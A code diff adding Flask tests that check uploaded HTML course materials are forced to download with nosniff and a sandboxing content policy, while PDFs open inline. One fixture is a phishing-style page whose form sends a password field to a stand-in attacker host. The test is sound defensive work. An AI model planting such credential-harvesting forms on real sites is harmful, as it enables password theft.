@@ -154,3 +154,31 @@ def test_students_open_originals_only_when_allowed_through_short_lived_links(aap
     with aapp.app_context():
         assert check_signature(1, material_id, sig)
         assert not check_signature(1, material_id, sig, max_age=-1)  # expired
+
+
+def _open_original(aapp: Flask, name: str, data: bytes):  # type: ignore[no-untyped-def]
+    client, teacher = aapp.test_client(), token(aapp)
+    uploaded = post_file(client, teacher, name, data)
+    assert uploaded.status_code == 201, uploaded.get_json()
+    material_id = uploaded.get_json()["materials"][0]["id"]
+    link = client.get(f"/api/v1/bots/1/materials/{material_id}/link", headers=teacher).get_json()["url"]
+    return client.get(link[len("http://localhost:5000"):].split("#")[0])
+
+
+def test_uploaded_html_is_downloaded_never_shown_as_a_page_of_our_origin(aapp: Flask) -> None:
+    page = (b"<html><body><h1>Skript</h1><form action='https://evil.example/'><input name=pw></form>" + NOTES
+            + b"</body></html>")
+    opened = _open_original(aapp, "Skript.html", page)
+    assert opened.status_code == 200 and opened.data == page
+    assert opened.headers["Content-Disposition"].startswith("attachment;")
+    assert opened.headers["X-Content-Type-Options"] == "nosniff"
+    assert "sandbox" in opened.headers["Content-Security-Policy"]
+
+
+def test_pdf_originals_open_in_the_browsers_viewer(aapp: Flask) -> None:
+    from tests.conftest import scanned_pdf
+
+    opened = _open_original(aapp, "Vorlesung.pdf", scanned_pdf([None]))
+    assert opened.status_code == 200 and opened.mimetype == "application/pdf"
+    assert opened.headers["Content-Disposition"].startswith("inline;")
+    assert opened.headers["X-Content-Type-Options"] == "nosniff"
